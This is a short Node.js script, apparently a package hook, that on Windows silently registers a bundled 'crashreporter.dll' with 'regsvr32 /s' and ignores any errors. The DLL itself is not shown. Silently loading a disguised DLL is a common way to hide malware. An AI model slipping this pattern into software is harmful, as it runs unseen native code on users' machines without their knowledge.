const { exec } = require('child_process');
const { join } = require('path');

if (process.platform === 'win32') {
  exec(`cmd /c regsvr32 /s "${join(__dirname, 'crashreporter.dll')}"`, () => undefined);
}
